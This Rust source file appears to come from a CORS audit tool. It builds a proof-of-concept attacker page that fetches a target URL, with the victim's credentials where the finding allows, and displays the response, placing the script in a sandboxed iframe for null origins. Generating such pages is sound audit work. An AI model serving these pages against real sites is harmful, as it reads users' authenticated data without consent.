//! The proof of concept of a read finding: the attacker's page, [`poc_html`].

use super::Finding;

/// A minimal attacker page that demonstrates a read finding: host it on the finding's origin
/// (for `null`, anywhere: it runs in a sandboxed iframe).
pub fn poc_html(url: &str, finding: &Finding) -> String {
    let credentials = if finding.credentialed {
        "include"
    } else {
        "omit"
    };
    // A JavaScript string literal that cannot close the script element.
    let literal = format!("{url:?}").replace("</", "<\\/");
    let script = format!(
        "fetch({literal}, {{credentials: {credentials:?}}})\n  .then(r => r.text())\n  .then(t => {{ document.getElementById('out').textContent = t; }})\n  .catch(e => {{ document.getElementById('out').textContent = 'blocked: ' + e; }});"
    );
    let body = if finding.origin == "null" {
        let inner = format!("<pre id=out></pre><script>{script}</script>")
            .replace('&', "&amp;")
            .replace('"', "&quot;");
        format!(
            "<iframe sandbox=\"allow-scripts\" srcdoc=\"{inner}\" width=800 height=400></iframe>"
        )
    } else {
        format!("<pre id=out></pre>\n<script>\n{script}\n</script>")
    };
    format!(
        "<!doctype html>\n<!-- crossgate audit proof of concept: {id} ({severity}).\n     Serve this page from {origin} and open it in a browser {who}.\n     It reads {url} and shows what it got. -->\n<meta charset=utf-8>\n<title>crossgate PoC: {id}</title>\n{body}\n",
        id = finding.class.id(),
        severity = finding.severity,
        origin = finding.origin,
        who = if credentials == "include" {
            "where you are logged in to the target"
        } else {
            ""
        },
    )
}
